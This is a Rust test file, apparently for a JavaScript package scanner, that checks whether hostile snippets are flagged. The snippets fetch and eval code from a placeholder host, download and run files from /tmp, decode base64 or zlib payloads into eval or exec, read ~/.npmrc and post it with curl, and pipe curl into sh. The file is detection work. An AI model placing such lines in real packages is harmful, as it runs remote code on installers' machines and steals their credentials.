//! Responses and decoded text that reach code and processes.

use super::check;

#[test]
fn responses_and_decoded_text_are_followed_to_code() {
    let eval = "remote-to-code https://c.invalid/p>";
    check(&[
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p').then(r => r.text()).then(t => eval(t))",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "(async () => { const r = await fetch('https://c.invalid/p'); eval(await r.text()) })()",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "(async () => { const { data } = await require('axios').get('https://c.invalid/p'); new Function(data)() })()",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "require('axios').get('https://c.invalid/p').then(r => new Function('require', r.data.x)(require))",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "require('https').get('https://c.invalid/p', r => { let s = ''; r.on('data', c => s += c); r.on('end', () => require('vm').runInThisContext(s)) })",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "const get = u => new Promise(f => require('https').get(u, r => { let s = ''; r.on('data', c => { s += c }); r.on('end', () => f(s)) })); get('https://c.invalid/p').then(s => eval(s))",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "const get = u => new Promise((f, e) => require('https').get(u, r => { const a = []; r.on('data', c => a.push(c)); r.on('end', () => f(Buffer.concat(a).toString())) })); (async () => eval(await get('https://c.invalid/p')))()",
            )],
            eval,
        ),
        (
            &[
                (
                    "i.js",
                    "require('./b')('https://c.invalid/p').then(t => eval(t))",
                ),
                (
                    "b.js",
                    "module.exports = async u => (await fetch(u)).text()",
                ),
            ],
            eval,
        ),
        (
            &[(
                "i.js",
                "require('request')('https://c.invalid/p', (e, r, b) => eval(b))",
            )],
            eval,
        ),
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p').then(r => r.json()).then(j => require('child_process').exec(j.c))",
            )],
            "remote-to-process https://c.invalid/p>",
        ),
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p').then(r => r.json()).then(j => require('child_process').execFile('git', ['checkout', j.tag]))",
            )],
            "remote-to-argument https://c.invalid/p>git checkout <?>",
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), cp = require('child_process'); fetch('https://c.invalid/p').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/run', t); cp.exec('sh /tmp/run') })",
            )],
            "download-to-process https://c.invalid/p>sh /tmp/run",
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), cp = require('child_process'); require('https').get('https://c.invalid/p', r => { r.pipe(fs.createWriteStream('/tmp/run')).on('finish', () => cp.execFile('/tmp/run')) })",
            )],
            "download-to-process https://c.invalid/p>/tmp/run",
        ),
        (
            &[(
                "i.js",
                "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())",
            )],
            "decoded-to-code >alert(1)",
        ),
        (
            &[(
                "i.js",
                "const d = s => Buffer.from(s, 'hex').toString(); new Function(d('616c65727428'))()",
            )],
            "decoded-to-code >alert(",
        ),
        (
            &[
                (
                    "i.js",
                    "eval(atob(require('fs').readFileSync(__dirname + '/d.txt', 'utf8')))",
                ),
                ("d.txt", "YQ=="),
            ],
            "decoded-to-code >a",
        ),
        (
            &[(
                "i.js",
                "eval(require('zlib').inflateSync(Buffer.from('eJxLzEktKtEw1AQADW8Cmw==', 'base64')).toString())",
            )],
            "decoded-to-code >alert(1)",
        ),
        (
            &[(
                "i.js",
                "require('child_process').exec(Buffer.from('d2hvYW1p', 'base64').toString())",
            )],
            "decoded-to-process >whoami",
        ),
    ]);
}

#[test]
fn command_lines_take_what_they_are_given() {
    check(&[
        (
            &[(
                "i.js",
                r#"const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
const t = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
execSync(`curl -d "${t}" https://c.invalid`);"#,
            )],
            "credential-to-network ~/.npmrc>https://c.invalid",
        ),
        (
            &[(
                "i.js",
                r#"require("child_process").execSync("curl -d @$HOME/.npmrc https://c.invalid");"#,
            )],
            "credential-to-network ~/.npmrc>https://c.invalid",
        ),
        (
            &[(
                "i.js",
                r#"require("child_process").spawn("bash", ["-c", "curl https://c.invalid | sh"]);"#,
            )],
            "remote-to-process https://c.invalid>sh",
        ),
        (
            &[(
                "i.js",
                r#"const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
execSync(`echo ${fs.readFileSync(os.homedir() + "/.npmrc")}`);"#,
            )],
            "",
        ),
    ]);
}
